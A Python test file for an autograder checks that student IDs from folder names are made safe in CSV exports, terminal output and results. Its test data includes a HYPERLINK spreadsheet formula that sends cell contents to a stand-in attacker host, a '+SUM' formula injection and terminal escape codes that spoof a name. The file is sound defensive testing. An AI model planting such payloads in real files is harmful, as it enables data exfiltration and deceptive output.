"""Student ids come from folder names, which students or an LMS may choose: none of them can run
as a spreadsheet formula, rewrite the terminal, or share another student's result."""

from __future__ import annotations

import csv
import os

from conftest import grade_folder, run_autograder, student_notebook, submit
from samples import CORRECT

FORMULA = '=HYPERLINK("evil.example?"&A1,"grade")'
ESCAPES = "\x1b[2K\x1b[1Gmallory"


def test_ids_are_safe_in_csv_files_terminals_and_results(tmp_path):
    subs = tmp_path / "submitted"
    for student_id in (FORMULA, "+SUM(1,2)", ESCAPES, "plain"):
        submit(subs, student_id, student_notebook(CORRECT))
    submit(subs, os.fsdecode(b"\xff"), student_notebook(CORRECT))  # an undecodable name, and a
    submit(subs, "\\xff", student_notebook({}))  # folder literally named as its escape
    graded = grade_folder(subs, tmp_path / "out")

    assert "'" + FORMULA in graded["rows"] and "'+SUM(1,2)" in graded["rows"]
    assert "\x1b" not in graded["stdout"] and "\\x1b[2K" in graded["stdout"]
    assert len(graded["rows"]) == len(graded["results"]) == 6  # the two \xff students stay two

    for kind, key in (("canvas", "Student"), ("moodle", "username")):
        out = tmp_path / f"{kind}.csv"
        run_autograder("export", "forward_pass", "--to", kind, "--results", str(tmp_path / "out" / "results"),
                       "--submissions", str(subs), "--out", str(out))
        with open(out, newline="") as stream:
            ids = [row[key] for row in csv.DictReader(stream)]
        assert not any(i.startswith(("=", "+", "-", "@")) for i in ids), ids
